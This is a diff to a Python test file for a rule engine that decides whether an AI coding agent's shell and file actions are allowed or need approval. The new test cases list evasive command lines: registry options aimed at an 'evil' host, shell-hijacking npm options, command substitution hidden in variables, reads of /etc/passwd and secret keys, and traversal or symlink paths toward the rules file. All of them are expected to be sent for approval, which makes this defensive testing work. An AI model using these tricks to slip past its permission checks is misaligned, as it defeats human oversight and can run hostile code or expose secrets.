@@ -9,8 +9,9 @@ from typing import Any
 
 import pytest
 
+from sayso.config import Config
 from sayso.rules.book import Circumstances, RuleBook, Ruling
-from sayso.rules.judge import sandbox_of
+from sayso.rules.judge import RuleJudge, sandbox_of
 from sayso.rules.places import RuleLevel
 from sayso.rules.reading import read_rules
 from sayso.rules.rule import Approvers, Effect, RulesFile
@@ -278,6 +279,21 @@ def test_the_name_of_a_program_alone_does_not_allow_the_programs_among_its_words
     ("pattern", "line"),
     [
         ("npm run build *", "npm run build --script-shell=./x"),
+        *(
+            ("npm test *", f"npm test {option}")
+            for option in (
+                "-script-shell=./x",
+                "---script-shell=./x",
+                "-script-shell ./x",
+                "--script-sh ./x",
+                "--git=./x",
+            )
+        ),
+        ("npm install *", "npm install x --registry=http://evil"),
+        ("npm install *", "npm install x -registry http://evil"),
+        ("pnpm run *", "pnpm run -shell-emulator build"),
+        ("pnpm add *", "pnpm add x ---registry=http://evil"),
+        ("bun test *", "bun test --tsconfig-override=./x"),
         ("pnpm run build *", "pnpm run build --script-shell=./x"),
         ("pnpm run build *", "pnpm run build --config.script-shell=./x"),
         ("pnpm run build *", "pnpm run build --dir /x"),
@@ -303,6 +319,15 @@ def test_the_name_of_a_program_alone_does_not_allow_the_programs_among_its_words
         ("node --test *", "node --test --import ./x"),
         ("node --test *", "node --test --require ./x"),
         ("node --test *", "node --test --test-reporter=./x"),
+        ("uv run pytest *", "uv run pytest -p evil"),
+        ("uv run --frozen pytest *", "uv run --frozen pytest --junitxml=/x"),
+        ("uv run python *", "uv run python -c x"),
+        ("python -m pytest *", "python -m pytest --config-file=/x"),
+        ("python3.12 *", "python3.12 -c x"),
+        ("npx jest *", "npx jest --config=x"),
+        ("pytest *", "pytest @options"),
+        ("python -m mypy *", "python -m mypy @options"),
+        ("g++ *", "g++ @options"),
         ("cargo test *", "cargo test --manifest-path /x/Cargo.toml"),
         ("cargo clippy *", "cargo clippy --fix"),
         ("go vet *", "go vet -vettool=./x ./..."),
@@ -317,8 +342,108 @@ def test_a_star_after_a_verb_does_not_stand_for_options_that_run_programs_or_wri
 
 
 @pytest.mark.parametrize(
+    ("patterns", "line"),
+    [
+        (["cd src", "./run.sh"], "cd src && ./run.sh"),
+        (["pushd *", "./run.sh"], "pushd src; ./run.sh"),
+        (["find *", "git diff *"], r"find put=w.txt -exec git diff --out{} \;"),
+        (["find *", "./run.sh *"], r"find . -execdir ./run.sh {} \;"),
+        (["cd *", "git status *"], "cd $X && git status"),
+    ],
+)
+def test_what_runs_elsewhere_or_with_words_that_are_filled_in_is_another_program(
+    patterns: list[str], line: str
+) -> None:
+    assert effect(f"[[rule]]\nallow = {[f'Bash({each})' for each in patterns]}", f"Bash({line})") == "ask"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "COLUMNS='path[$(touch X)1]' git status",
+        "printf %d 'path[$(touch X)1]'",
+        'echo "$HOME[path[\\$(touch X)1]]"',
+        'echo "$HOME:h/x"',
+        "for path in ./evil; do git status; done",
+        "cat ~+/secrets/key",
+        "npm test --script-shel*/ev.sh",
+        "git diff --out*",
+        "git diff --no-index /etc/passwd x",
+        "git diff /etc/passwd /etc/group",
+        "git diff ../other",
+        "git blame --contents /etc/passwd x",
+        "cp evil /proc/self/cwd/../x",
+        "cp -fffffffffffffft../x evil",
+    ],
+)
+def test_what_another_shell_or_program_may_read_otherwise_is_asked(line: str) -> None:
+    names = ("git status", "git diff", "git blame", "printf", "echo", "cat", "cp", "npm test")
+    assert effect(f"[[rule]]\nallow = {[f'Bash({name} *)' for name in names]}", f"Bash({line})") == "ask"
+
+
+def test_no_way_to_where_rules_are_kept_is_open_to_a_command(tmp_path: Path) -> None:
+    project, own = tmp_path / "project", tmp_path / "home"
+    for folder in (project / "a" / "b", own):
+        folder.mkdir(parents=True)
+    (project / "link").symlink_to("a/b")
+    judge = RuleJudge(Config(state_dir=own))
+    rules = read('[[rule]]\nallow = ["Bash(cp *)", "Bash(cd *)"]')
+
+    def effect_of(line: str) -> str:
+        use = judge.use(example(f"Bash({line})", str(project)), str(project))
+        return RuleBook([rules]).judge(use, Circumstances(project=str(project), agent="claude-code")).effect
+
+    assert effect_of("cp x a/y") == "allow"
+    assert effect_of("cd a && cp x y") == "allow"
+    assert effect_of("cp x ../home/rules.toml") == "ask"
+    assert effect_of("cd .. && cp x home/rules.toml") == "ask"
+    assert effect_of("cd a && cd ../.. && cp x home/rules.toml") == "ask"
+    assert effect_of("cp x link/../../../home/rules.toml") == "ask"
+    assert effect_of("cp x nowhere/../../home/rules.toml") == "ask"
+
+
+def test_git_is_asked_where_a_folder_poses_as_a_repository(tmp_path: Path) -> None:
+    for name in (".git", "src/deep", "lib"):
+        (tmp_path / name).mkdir(parents=True)
+    for name in ("HEAD", "objects", "refs"):
+        (tmp_path / "src" / name).touch()
+    judge, rules = (
+        RuleJudge(Config(state_dir=tmp_path / "state")),
+        read('[[rule]]\nallow = ["Bash(git status *)", "Bash(cd *)"]'),
+    )
+
+    def effect_in(folder: Path, line: str) -> str:
+        use = judge.use(example(f"Bash({line})", str(folder)), str(tmp_path))
+        return RuleBook([rules]).judge(use, Circumstances(project=str(tmp_path), agent="claude-code")).effect
+
+    assert effect_in(tmp_path, "git status") == "allow"
+    assert effect_in(tmp_path / "lib", "git status") == "allow"
+    assert effect_in(tmp_path, "cd lib && git status") == "allow"
+    assert effect_in(tmp_path / "src", "git status") == "ask"
+    assert effect_in(tmp_path / "src" / "deep", "git status") == "ask"
+    assert effect_in(tmp_path, "cd src && git status") == "ask"
+    assert effect_in(tmp_path, "cd src && cd deep && git status") == "ask"
+    assert effect_in(tmp_path / "lib", "cd ../src/deep; git status") == "ask"
+
+
+def test_a_name_that_means_another_file_once_its_links_are_followed_is_asked(tmp_path: Path) -> None:
+    (tmp_path / "src" / "a" / "b").mkdir(parents=True)
+    (tmp_path / "src" / "link").symlink_to("a/b")
+    action = example(f"Write({tmp_path}/src/link/../../x)", str(tmp_path))
+    action["data"]["file"] = {"path": os.path.realpath(f"{tmp_path}/src/link/../../x")}
+    use = RuleJudge(Config(state_dir=tmp_path / "state")).use(action, str(tmp_path))
+    assert [doubt for doubt in use.doubts if "links" in doubt]
+
+
+@pytest.mark.parametrize(
     ("pattern", "line"),
     [
+        ("uv run pytest *", "uv run pytest -q tests/a.py"),
+        ("python -m pytest *", "python -m pytest -x"),
+        ("npm test *", "npm test -- --watch"),
+        ("npm install *", "npm install --save-dev @scope/name"),
+        ("pnpm test *", "pnpm test --watch"),
+        ("yarn lint *", "yarn lint --fix"),
         ("yarn workspace a test *", "yarn workspace a test --watch"),
         ("yarn workspace a exec ./x *", "yarn workspace a exec ./x y"),
         ("yarn run build *", "yarn run build --watch"),
